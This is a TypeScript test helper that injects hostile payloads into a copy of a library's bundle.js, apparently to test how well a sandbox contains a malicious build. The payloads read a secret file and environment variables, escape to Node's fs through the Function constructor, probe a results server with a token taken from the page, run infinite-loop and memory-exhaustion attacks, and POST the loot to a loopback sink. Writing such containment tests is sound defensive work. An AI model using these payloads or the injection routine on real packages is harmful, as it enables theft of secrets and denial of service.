/**
 * Builds of the peer library that take whatever they can get, made from a published build: for tests that
 * show what such a build gets. Each deed runs when the library loads, in a browser page or in the simulation,
 * and reports its loot to a sink on loopback and, where it can reach the file system, to a file.
 */
import { cp, readFile, rm, writeFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import { once } from 'node:events'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'

export interface Target {
  /** A file that the build must not read. */
  secretFile: string
  /** Where the build reports its loot over HTTP. */
  sinkUrl: string
  /** A file that the build writes its loot to. */
  lootFile: string
}

/** What a hostile build does, as code; `tell(deed, loot)` reports. */
export const DEEDS = {
  bundledFile: ({ secretFile }) =>
    `import stolen from ${JSON.stringify(secretFile)} with { type: 'text' }\ntell('bundledFile', stolen)`,
  environment: () => `const node = nodeProcess(); if (node) tell('environment', JSON.stringify(node.env))`,
  files: ({ secretFile }) => `
    const fs = nodeFiles(); if (fs) tell('files', fs.readFileSync(${JSON.stringify(secretFile)}, 'utf8'))`,
  address: () => `if (typeof location === 'object') tell('address', location.href)`,
  // The page knows where the results server is, and holds a token of it.
  tests: () => `
    if (typeof location === 'object') {
      const server = new URLSearchParams(location.search).get('statsServerUrl')
      const token = new URLSearchParams(location.hash.slice(1)).get('token')
      const own = new URLSearchParams(location.search).get('testId')
      for (const [method, path] of [
        ['GET', '/test'], ['DELETE', '/test/earlier'], ['PUT', '/test/' + own + '/finish'],
        ['GET', '/test/earlier?dataPoints=true'], ['GET', '/test/' + own]
      ])
        for (const headers of [{}, { Authorization: 'Bearer ' + token }])
          fetch(server + path, { method, headers }).then(
            ({ status }) => tell('tests', method + ' ' + path + (headers.Authorization ? ' with its token ' : ' ') + status),
            () => tell('tests', method + ' ' + path + (headers.Authorization ? ' with its token ' : ' ') + 'unreadable'))
    }`,
  loop: () => `for (;;) ;`,
  timerLoop: () => `const again = () => setTimeout(again, 0); again()`,
  memory: () => `const hoard = []; for (;;) hoard.push(new Uint8Array(1 << 24).fill(1))`
} as const satisfies Record<string, (target: Target) => string>
export type Deed = keyof typeof DEEDS

/** Copies the folder of a build to `folder`, which it replaces, and adds the deeds to its bundle. */
export async function copyHostile(
  build: string,
  folder: string,
  deeds: readonly Deed[],
  target: Target
): Promise<void> {
  await rm(folder, { recursive: true, force: true })
  await cp(build, folder, { recursive: true })
  const bundle = join(folder, 'bundle.js')
  const added = deeds.map((deed) => contained(DEEDS[deed](target)))
  await writeFile(bundle, [await readFile(bundle, 'utf8'), tools(target), ...added].join('\n'))
}

/** A scope for each deed; imports stay outside. */
function contained(code: string): string {
  const [, imports = '', body] = /^((?:import .*\n)*)([^]*)$/.exec(code)!
  return `${imports};(() => { try { ${body} } catch { /* It got nothing. */ } })()`
}

function tools({ sinkUrl, lootFile }: Target): string {
  return `
function nodeProcess() {
  const found = (function () {}).constructor('return typeof process === "object" ? process : undefined')()
  return typeof found?.env === 'object' ? found : undefined
}
function nodeFiles() {
  const node = nodeProcess()
  return node?.getBuiltinModule?.('node:fs') ?? node?.mainModule?.require('node:fs')
}
function tell(deed, loot) {
  const line = deed + ': ' + loot
  try { nodeFiles()?.appendFileSync(${JSON.stringify(lootFile)}, line + '\\n') } catch {}
  // A browser gives up its requests when an interface of the machine changes.
  const report = (again) => fetch(${JSON.stringify(sinkUrl)}, { method: 'POST', mode: 'no-cors', body: line })
    .catch(() => again > 0 && setTimeout(report, 100, again - 1))
  report(10)
}`
}

export interface Sink {
  url: string
  /** What arrived, a text for each report. */
  loot: string[]
  close(): void
}

/** Stands for a server of the build's author. */
export async function openSink(): Promise<Sink> {
  const loot: string[] = []
  const server = createServer((request, response) => {
    const chunks: Buffer[] = []
    request.on('data', (chunk: Buffer) => chunks.push(chunk))
    request.on('end', () => {
      if (request.method === 'POST') loot.push(Buffer.concat(chunks).toString())
      response.writeHead(204, { 'Access-Control-Allow-Origin': '*' }).end()
    })
  }).listen(0, '127.0.0.1')
  await once(server, 'listening')
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`,
    loot,
    close: () => {
      server.close()
      server.closeAllConnections()
    }
  }
}
